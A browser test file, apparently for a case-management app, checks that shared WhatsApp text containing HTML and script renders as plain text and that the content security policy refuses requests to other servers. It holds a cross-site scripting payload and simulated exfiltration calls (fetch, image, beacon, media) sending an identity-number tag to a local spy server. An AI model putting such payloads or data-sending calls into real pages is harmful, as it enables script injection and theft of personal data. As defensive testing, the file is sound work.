// Flow (i): malicious shared text stays text. A WhatsApp message with HTML and script in it is
// shared into the app; the new case, its note and its timeline show the characters as typed,
// nothing is run and no element is made from them. The page carries the app's content
// security policy, which starts from `default-src 'none'`: a frame, a fetch, an image, a beacon
// or a media file pointing at another server is refused, and that server hears nothing.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { startHost, phone, closeBrowser, screenshot, VIEWPORTS } from '../lib.mjs';

after(closeBrowser);

const NASTY = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
  + '<a href="https://contoh.invalid">klik</a> Halo pak, mau urus akte lahir anak, WA 0812 3456 7890';

for (const viewport of VIEWPORTS) {
  test(`(i) shared HTML and script are shown as text and never run, ${viewport.name}`, async () => {
    const host = await startHost();
    const p = await phone(host, viewport);
    const { page } = p;
    try {
      const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      assert.match(csp, /^default-src 'none';/);
      assert.match(csp, /object-src 'none'/);
      assert.match(csp, /frame-src 'none'/);

      await host.share(NASTY);
      await page.locator('#f-nama').waitFor();
      await p.screen('Berkas baru');
      await p.type(page.locator('#f-nama'), '<b>Bu Sri</b>');
      await p.tap(p.button('Simpan berkas'));
      await p.screen('Detail berkas');
      // The name and the note are there, character for character.
      await page.getByRole('heading', { name: '<b>Bu Sri</b>' }).waitFor();
      await page.getByText('<script>window.__pwned=2</script>', { exact: false }).first().waitFor();
      const found = await page.evaluate(() => ({
        pwned: window.__pwned ?? null,
        imgs: document.querySelectorAll('img[src="x"]').length,
        scripts: [...document.querySelectorAll('script')].filter((s) => s.textContent.includes('__pwned')).length,
        links: document.querySelectorAll('a[href*="contoh.invalid"]').length,
        bold: document.querySelectorAll('main b').length,
      }));
      assert.deepEqual(found, { pwned: null, imgs: 0, scripts: 0, links: 0, bold: 0 });
      await screenshot(p, 'teks-berbahaya');

      // The app's own page ran under the policy without a single refusal.
      assert.deepEqual(p.errors, []);

      // The policy refuses a frame to a remote page (were any code to try).
      const refused = await page.evaluate(() => new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
        const frame = document.createElement('iframe');
        frame.src = 'https://contoh.invalid/';
        document.body.appendChild(frame);
        setTimeout(() => resolve('none'), 2000);
      }));
      assert.equal(refused, 'frame-src');

      // An attacker's server on this machine, another origin than the page: whatever a script
      // that got in tries, the policy stops it before a byte leaves.
      const hits = [];
      const spy = createServer((req, res) => { hits.push(req.url); res.end('ok'); });
      await new Promise((r) => spy.listen(0, '127.0.0.1', r));
      try {
        const target = `http://127.0.0.1:${spy.address().port}`;
        const violated = await page.evaluate((target) => new Promise((resolve) => {
          const seen = [];
          document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
          const tries = [];
          tries.push(fetch(`${target}/fetch?d=nik`).then(() => 'sent', () => 'refused'));
          const img = new Image();
          img.src = `${target}/img?d=nik`;
          navigator.sendBeacon(`${target}/beacon`, 'nik');
          const audio = document.createElement('audio');
          audio.src = `${target}/media`;
          Promise.all(tries).then((r) => setTimeout(() => resolve({ fetch: r[0], seen: [...new Set(seen)].sort() }), 1000));
        }), target);
        assert.deepEqual(violated, { fetch: 'refused', seen: ['connect-src', 'img-src', 'media-src'] });
        assert.deepEqual(hits, []);
      } finally {
        spy.close();
      }
      // The only refusals are the ones tried above.
      const others = p.errors.filter((e) => !/contoh\.invalid|127\.0\.0\.1:\d+\/(fetch|img|beacon|media)/.test(e));
      assert.deepEqual(others, []);
    } finally {
      await p.close();
      await host.stop();
    }
  });
}
